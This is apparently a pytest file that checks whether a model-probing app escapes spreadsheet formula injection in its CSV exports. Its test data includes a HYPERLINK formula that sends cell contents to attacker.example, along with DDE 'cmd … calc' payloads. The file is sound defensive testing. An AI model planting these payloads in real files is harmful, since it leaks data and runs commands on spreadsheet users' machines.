"""No formula in any of the app's CSV downloads (issue 33), each through the handler its page
calls: the Probe grid's, "Your results" on the About tab, a class's answers, and the Scoreboard's.
Text from outside (a model's reply, a model name, a benchmark id, a student's nickname) starting
with each character a spreadsheet runs is escaped in the file as read back with csv.reader, and
the numeric columns still read as numbers."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import gradio as gr
import pytest

from probes.core.registry import get_benchmark
from probes.core.types import Condition, ItemRef, Mode, Result, Status
from probes.files.spreadsheet import inert
from probes.reading.grading import grade_reply
from probes.running.store import Store
from tests.probes.test_spreadsheet import STARTS, escaped_or_harmless
from tests.ui.conftest import reset_caches

LEAK = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click for the answer")'
REPLIES = [LEAK, "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
           "\t=1+1", "\r=1+1", "＝1+1", "Yes\r=1+1", "No\n@SUM(A1)"]  # fmt: skip


def read_csv(path: str | Path) -> list[dict[str, str]]:
    """The file as a spreadsheet gets it, every cell checked: escaped, or no formula."""
    text = Path(path).read_bytes().decode("utf-8")
    table = list(csv.reader(io.StringIO(text, newline="")))
    for row in table:
        assert len(row) == len(table[0]), row  # a line break in a cell never starts a row
        for cell in row:
            assert escaped_or_harmless(cell), (cell, row)
    return [dict(zip(table[0], row, strict=True)) for row in table[1:]]


def touching_item():
    benchmark = get_benchmark("blind/touching-circles", params={"canvas": ["384"]})
    return benchmark, benchmark.items()[0]


def graded(reply: str, model: str, latency: float = 0.5) -> Result:
    benchmark, item = touching_item()
    result = grade_reply(benchmark, item, reply, model, Condition(Mode()), ItemRef.of(item))
    result.latency = latency
    return result


# --- the Probe's grid ------------------------------------------------------------------------------


def test_the_probe_grids_csv_escapes_replies_model_names_and_notes(tmp_path, monkeypatch):
    from ui.probe import export, export_files
    from ui.probe.export import Probed
    from ui.probe.grid import Cell, Sent

    monkeypatch.setattr(export, "EXPORTS", tmp_path / "exports")
    _, item = touching_item()
    models = [f"{start}lab/vlm" for start in STARTS[:4]] + ["lab/vlm"]
    cells = {}
    for number, model in enumerate(models[:4]):
        cells[(model, "as asked")] = Cell("done", graded(REPLIES[number], model, latency=0.25 * number))
    cells[("lab/vlm", "as asked")] = Cell("failed", message="-1+cmd|' /C calc'!A0")
    probed = Probed.kept(None, item, models, ["as asked"], cells, {"as asked": Sent(item)})
    _, csv_file = export_files(probed, None)
    rows = read_csv(csv_file["value"])
    assert [row["model"] for row in rows] == ["'" + model for model in models[:4]] + ["lab/vlm"]
    assert [row["reply"] for row in rows[:4]] == ["'" + reply for reply in REPLIES[:4]]
    assert rows[4]["verdict"] == "failed" and rows[4]["note"].startswith("'-1+cmd")
    assert [float(row["latency_s"]) for row in rows[:4]] == [0.0, 0.25, 0.5, 0.75]


# --- "Your results" ---------------------------------------------------------------------------------


def test_your_results_escape_the_stored_replies_and_keep_the_numbers_numeric(tmp_path, monkeypatch):
    from ui.about import my_results
    from ui.session_stores import SessionStores

    sessions = SessionStores(folder=tmp_path / "sessions")
    monkeypatch.setattr(my_results, "SESSIONS", sessions)
    monkeypatch.setattr(my_results, "FOLDER", tmp_path / "mine")
    results = [graded(reply, f"{start}lab/vlm", latency=0.5) for reply, start in zip(REPLIES, STARTS, strict=False)]
    count = Result("=evil-bench", "n1", "lab/counter", "0-shot", "none", Status.ANSWERED, reply="-3", parsed=-3,
                   correct=False, score=0.0, target=-2, latency=1.5, ungraded=None)  # fmt: skip
    lease = sessions.lease("visitor-1")
    try:
        lease.store.record_many([(result, None, "") for result in [*results, count]])
    finally:
        lease.release()
    said, csv_path, _ = my_results.download(gr.Request(session_hash="visitor-1"))
    assert said == f"{len(results) + 1} results."
    rows = read_csv(csv_path)
    # Escaped where it starts a formula, kept whole (line breaks and all) where it does not.
    assert {row["reply"] for row in rows} == {inert(reply) for reply in REPLIES} | {"-3"}
    assert {"Yes\r=1+1", "No\n@SUM(A1)"} < {row["reply"] for row in rows}
    assert {row["model"] for row in rows} >= {f"'{start}lab/vlm" for start in STARTS[:4]}
    counted = next(row for row in rows if row["model"] == "lab/counter")
    assert counted["benchmark"] == "'=evil-bench"
    # The model's numeric answer, its target and the times: numbers, as written.
    assert (counted["reply"], counted["parsed"], counted["target"]) == ("-3", "-3", "-2")
    for row in rows:
        float(row["latency"]), float(row["created_at"])


# --- a class's answers ----------------------------------------------------------------------------


def test_a_class_csv_escapes_the_students_nicknames(tmp_path, monkeypatch):
    from probes.classroom import Lesson
    from ui.classroom import teacher
    from ui.classroom.lessons import CLASSES

    monkeypatch.setattr(teacher, "DOWNLOADS", tmp_path / "classes")
    benchmark, item = touching_item()
    room = CLASSES.open(Lesson(((benchmark, item),), 30.0))
    try:
        names = ["-2+3+cmd", "-cmd", "- Ada", "Bo"]
        tokens = [CLASSES.join(room.code, name)[1] for name in names]
        room.next(room.teacher_token)
        for token, answer in zip(tokens, ["Yes", "No", "Yes", "No"], strict=True):
            room.answer(token, answer)
        out = teacher.results(room.teacher_token)
    finally:
        CLASSES.close(room.teacher_token)
    rows = read_csv(out[2]["value"])
    stored = [student.name for student in sorted(room.students.values(), key=lambda s: s.number)]
    assert all(name.startswith("-") for name in stored[:3])  # the premise: nicknames may start with '-'
    assert [row["student"] for row in rows] == ["'" + name for name in stored[:3]] + ["Bo"]
    for row in rows:
        int(row["number"]), int(row["item"]), float(row["seconds"])


# --- the Scoreboard ----------------------------------------------------------------------------------


@pytest.fixture
def hostile_home(tmp_path, monkeypatch):
    from ui.scoreboard import data

    home = tmp_path / "home"
    home.mkdir()
    monkeypatch.setattr(data, "EXPORTS", tmp_path / "scoreboard")
    entries = []
    for item in range(20):
        for model, right in (("=ahead/x", item < 18), ("-behind/x", item < 4), ("@lab/x", item < 10)):
            entries.append(Result("=HYPERLINK(A1)", f"s{item}", model, "0-shot", "none", Status.ANSWERED,
                                  reply=LEAK, parsed="yes", correct=right, score=float(right), target="yes",
                                  latency=0.5))  # fmt: skip
    with Store(home / "results.sqlite") as store:
        store.record_many([(result, None, "") for result in entries])
    monkeypatch.setenv("PROBE_HOME", str(home))
    reset_caches()
    yield
    reset_caches()


def test_the_scoreboards_csv_escapes_benchmark_and_model_names(hostile_home):
    from ui.scoreboard.handlers import scoreboard

    out = scoreboard("=HYPERLINK(A1)", [], "all", "all", "overall only", None, [], ["run"], view="table")
    assert out[2], out[0]
    rows = read_csv(out[2])
    assert {row["benchmark"] for row in rows} == {"'=HYPERLINK(A1)"}
    assert {row["model"] for row in rows} == {"'=ahead/x", "'-behind/x", "'@lab/x"}
    accuracy = {row["model"]: float(row["accuracy"]) for row in rows}
    assert accuracy == {"'=ahead/x": 90.0, "'-behind/x": 20.0, "'@lab/x": 50.0}
    for row in rows:
        int(row["n"]), float(row["ci_low"]), float(row["ci_high"]), float(row["mean_latency"])
